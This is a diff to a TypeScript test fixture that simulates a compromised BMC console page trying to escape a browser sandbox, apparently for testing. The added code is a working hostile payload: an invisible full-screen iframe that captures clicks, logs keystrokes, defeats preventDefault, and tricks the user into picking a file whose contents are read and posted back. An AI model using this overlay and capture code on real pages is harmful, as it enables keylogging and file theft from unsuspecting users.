@@ -1,5 +1,5 @@
 import { type BmcPages, NOT_FOUND } from './bmc-site.ts';
-import { consolePage } from './console-page.ts';
+import { CLINGING, consolePage } from './console-page.ts';
 
 /** What a page can try to leave by, as text of JavaScript; `%PORT%` is somebody else's. */
 const ATTEMPTS: Readonly<Record<string, string>> = {
@@ -24,6 +24,29 @@ const ATTEMPTS: Readonly<Record<string, string>> = {
   devtools: "location.href = 'devtools://devtools/bundled/inspector.html'",
 };
 
+/**
+ * Lies unseen above the console, in a process of its own, and takes every click and key; what the
+ * browser does with them is not its to say. It writes itself anew, which ends listeners, and makes
+ * nothing of what prevents a default. It does not want to be left.
+ */
+const FRAME = `<iframe sandbox="allow-scripts allow-forms allow-modals allow-popups" src="/frame"
+  style="position:fixed;inset:0;width:100%;height:100%;border:0"></iframe>`;
+const FRAME_PAGE = `<!DOCTYPE html><body><script>
+  const tell = (what) => fetch('/frame?' + what, { method: 'POST', mode: 'no-cors' });
+  Event.prototype.preventDefault = () => undefined;
+  onload = () => {
+    document.open();
+    document.write('<body><input type="file" style="position:fixed;inset:0;opacity:0">');
+    document.close();
+    const field = document.querySelector('input');
+    field.onclick = () => tell('asked');
+    field.oncancel = () => tell('cancelled');
+    field.onchange = async () => tell('read=' + encodeURIComponent(await field.files[0].text()));
+    addEventListener('keydown', ({ key }) => key.length === 1 && tell('key=' + key));
+    ${CLINGING}
+  };
+</script></body>`;
+
 /** A BMC that has been taken over: its first page tries to get out of the browser, then is a console. */
 export function hostileBoard(otherPort: number) {
   return (): BmcPages => ({
@@ -37,6 +60,8 @@ export function hostileBoard(otherPort: number) {
         };
       }
       if (path === '/tried') return { body: '' };
+      if (path === '/framed') return { body: consolePage({ socket: '/kvm', around: FRAME }) };
+      if (path === '/frame') return { body: FRAME_PAGE };
       if (path !== '/') return NOT_FOUND;
       const tries = Object.entries(ATTEMPTS).map(([name, text]) => {
         const attempt = text.replaceAll('%PORT%', String(otherPort));
